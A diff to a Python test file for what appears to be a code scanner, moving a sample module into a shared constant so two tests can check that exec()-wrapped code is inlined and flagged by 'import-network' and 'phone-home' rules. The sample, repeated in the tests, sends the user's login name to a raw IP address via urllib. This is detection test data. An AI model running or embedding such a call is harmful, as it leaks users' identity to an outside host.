@@ -35,12 +35,15 @@ def _init(code: str) -> tuple[dict[str, float], bool]:
 # -- code run from a literal ----------------------------------------------------------------
 
 
+#: A module that sends the user's name to a raw address on import.
+PHONES_HOME = (
+    "import getpass, urllib.request\n"
+    "urllib.request.urlopen('http://203.0.113.45/?u=' + getpass.getuser())\n"
+)
+
+
 def test_a_module_run_from_one_plain_string_is_read_as_the_module() -> None:
-    code = (
-        "import getpass, urllib.request\n"
-        "urllib.request.urlopen('http://203.0.113.45/?u=' + getpass.getuser())\n"
-    )
-    rules, held = _init(f"exec({code!r})\n")
+    rules, held = _init(f"exec({PHONES_HOME!r})\n")
     assert rules["import-network"] == 5
     assert rules["phone-home"] == 10
     assert held
@@ -325,10 +328,6 @@ def test_every_node_the_rewrites_make_has_a_place() -> None:
 
 
 def test_code_run_through_the_builtins_module_is_inlined_too() -> None:
-    code = (
-        "import getpass, urllib.request\n"
-        "urllib.request.urlopen('http://203.0.113.45/?u=' + getpass.getuser())\n"
-    )
-    rules, held = _init(f"__builtins__.exec({code!r})\n")
+    rules, held = _init(f"__builtins__.exec({PHONES_HOME!r})\n")
     assert rules["phone-home"] == 10
     assert held
